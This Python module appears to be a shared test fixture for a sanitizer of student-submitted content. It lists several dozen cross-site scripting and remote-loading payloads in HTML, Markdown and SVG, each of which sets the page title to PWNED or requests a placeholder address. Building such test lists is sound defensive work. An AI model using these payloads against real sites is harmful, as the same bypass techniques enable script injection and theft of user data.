"""What a student may write so that a page acts; one list for all tests.

Each payload tries to load `{url}`, or to run code that sets the page's
title to PWNED and asks for `{url}`.
"""

RUN = "document.title='PWNED';new Image().src='{url}?js'"

HTML = {
    "script": "<script>" + RUN + "</script>",
    "script from elsewhere": "<script src='{url}?src'></script>",
    "broken script": "<scr<script>ipt>" + RUN + "</scr</script>ipt>",
    "module": "<script type=module>" + RUN + "</script>",
    "image error": '<img src=x onerror="' + RUN + '">',
    "slashed image": '<img/src=x/onerror="' + RUN + '">',
    "picture elsewhere": "<img src='{url}?img'>",
    "source set": "<img srcset='{url}?srcset 1x'>",
    "lazy picture": "<picture><source srcset='{url}?pic'><img></picture>",
    "svg load": '<svg onload="' + RUN + '"><path d="M0 0"/></svg>',
    "svg script": "<svg><script>" + RUN + "</script></svg>",
    "svg image": "<svg><image href='{url}?svgimg' width=9 height=9 /></svg>",
    "svg use": "<svg><use href='{url}?use#x'/></svg>",
    "svg foreign": (
        '<svg><foreignObject><img src=x onerror="' + RUN + '">'
        "</foreignObject></svg>"
    ),
    "svg animate": (
        '<svg><animate onbegin="' + RUN + '" attributeName=x dur=1s /></svg>'
    ),
    "svg unclosed": '<svg><style><img src=x onerror="' + RUN + '">',
    "math": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;'
        "&lt;img src=x onerror=&quot;" + RUN + '&quot;&gt;">'
    ),
    "frame": "<iframe src='{url}?frame'></iframe>",
    "frame of source": (
        '<iframe srcdoc="<script>parent.' + RUN + '</script>"></iframe>'
    ),
    "frame of script": '<iframe src="javascript:' + RUN + '"></iframe>',
    "object": "<object data='{url}?object'></object>",
    "embed": "<embed src='{url}?embed'>",
    "style sheet": "<link rel=stylesheet href='{url}?css'>",
    "preload": "<link rel=preload as=image href='{url}?preload'>",
    "prefetch": "<link rel=prefetch href='{url}?prefetch'>",
    "style": "<style>body{{background:url({url}?style)}}</style>",
    "style import": "<style>@import '{url}?import';</style>",
    "style attribute": "<p style=\"background:url('{url}?attr')\">x</p>",
    "cover": (
        "<div style='position:fixed;inset:0;background:url({url}?cover)'>"
        "</div>"
    ),
    "refresh": "<meta http-equiv=refresh content='0;url={url}?refresh'>",
    "base": "<base href='{url}?base/'><img src=y>",
    "form": (
        "<form action='{url}?form'><input name=a autofocus onfocus=\""
        + RUN
        + '"></form>'
    ),
    "details": '<details open ontoggle="' + RUN + '">x</details>',
    "video": '<video src=x onerror="' + RUN + '"></video>',
    "audio": "<audio autoplay src='{url}?audio'></audio>",
    "poster": "<video poster='{url}?poster'></video>",
    "body": '<body onload="' + RUN + '">',
    "marquee": '<marquee onstart="' + RUN + '">x</marquee>',
    "table background": "<table background='{url}?table'><tr><td>x</table>",
    "animation": (
        "<style>@keyframes x{{}}</style><b style='animation-name:x' "
        'onanimationstart="' + RUN + '">x</b>'
    ),
    "title": '</title><img src=x onerror="' + RUN + '">',
    "comment": '<!--><img src=x onerror="' + RUN + '">-->',
    "noscript": (
        "<noscript><p title=\"</noscript><img src=x onerror='" + RUN + "'>\">"
    ),
    "textarea": '<textarea></textarea><img src=x onerror="' + RUN + '">',
    "cell end": '</td></tr></table></section><img src=x onerror="'
    + RUN
    + '">',
    "pre end": "</pre></code></div><script>" + RUN + "</script>",
    "style end": "</style><script>" + RUN + "</script>",
    "attribute end": '"><script>' + RUN + "</script>",
    "apostrophe": "'><script>" + RUN + "</script>",
    "attribute": '" autofocus onfocus="' + RUN + '" tabindex="0',
    "policy": (
        "<meta http-equiv=Content-Security-Policy content='default-src *'>"
        "<script>" + RUN + "</script>"
    ),
    "template": (
        "<template shadowrootmode=open><script>" + RUN + "</script></template>"
    ),
}
MARKDOWN = {
    "picture": "![x]({url}?mdimg)",
    "picture of a script": "![x](javascript:{run})",
    "link": "[x](javascript:{run})",
    "link of data": "[x](data:text/html,<script>{run}</script>)",
    "reference": "![x][1]\n\n[1]: {url}?mdref",
    "attachment": "![x](attachment:evil.png)",
    "heading": '# <img src=x onerror="{run}">',
    "code": "```\n</code></pre><script>{run}</script>\n```",
    "table": '| a |\n| --- |\n| <img src=x onerror="{run}"> |',
    "formula": '$<img src=x onerror="{run}">$ and $$\n</p><script>{run}\n$$',
    "title": '![x](y "\\" onerror=\\"{run}")',
}
SVG = {
    "script": "<script>{run}</script>",
    "event": '<rect width="9" height="9" onload="{run}"/>',
    "handler": '<a xlink:href="javascript:{run}"><rect width="9"/></a>',
    "picture": '<image xlink:href="{url}?si" width="9" height="9"/>',
    "foreign": (
        '<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.'
        'org/1999/xhtml" src="{url}?sf"/></foreignObject>'
    ),
    "style": "<style>@import '{url}?ss';</style>",
    "look": '<rect width="9" height="9" style="fill:url({url}?sl)"/>',
    "use": '<use xlink:href="{url}?su#a"/>',
    "set": '<set attributeName="href" to="javascript:{run}" begin="0s"/>',
    "font": (
        "<defs><style>@font-face{{font-family:x;src:url({url}?sfo)}}"
        '</style></defs><text font-family="x">x</text>'
    ),
}


def html(url):
    """Return every payload of HTML, aimed at this address."""
    return [
        text.replace("{url}", url).replace("{{", "{").replace("}}", "}")
        for text in HTML.values()
    ]


def markdown(url):
    """Return every payload of Markdown."""
    run = RUN.replace("{url}", url)
    return [
        text.replace("{url}", url).replace("{run}", run)
        for text in MARKDOWN.values()
    ]


def svg(url):
    """Return every payload inside a drawing."""
    run = RUN.replace("{url}", url).replace("&", "&amp;")
    return [
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3'
        '.org/1999/xlink" width="9" height="9">'
        + text.replace("{url}", url)
        .replace("{run}", run)
        .replace("{{", "{")
        .replace("}}", "}")
        + "</svg>"
        for text in SVG.values()
    ]
